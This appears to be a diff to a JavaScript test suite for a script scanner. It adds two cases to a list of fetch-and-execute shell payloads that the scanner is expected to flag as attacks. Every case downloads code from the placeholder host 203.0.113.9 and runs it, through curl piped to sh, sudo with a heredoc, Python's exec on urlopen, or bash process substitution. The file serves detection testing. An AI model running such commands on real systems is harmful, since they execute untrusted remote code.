@@ -43,6 +43,8 @@ describe('an address that leads to nobody in particular', () => {
   it.each([
     ['piped', 'curl -s http://203.0.113.9/x | sh'],
     ['through a file', 'wget -qO /tmp/k http://203.0.113.9/k\nchmod +x /tmp/k\n/tmp/k'],
+    ['by another user', 'sudo -u x -i <<E\ncurl -s http://203.0.113.9/x | sh\nE'],
+    ['by Python', 'python3 - <<E\nimport urllib.request as u;exec(u.urlopen("http://203.0.113.9/p").read())\nE'],
     ['by a name', 'U=http://203.0.113.9\nbash <(curl -s $U/x)'],
   ])('is an attack where what lies there is run: %s', (_, text) => {
     const found = judgeScript(text, { buildsImage: true, hashComments: true, shell: 'posix' });
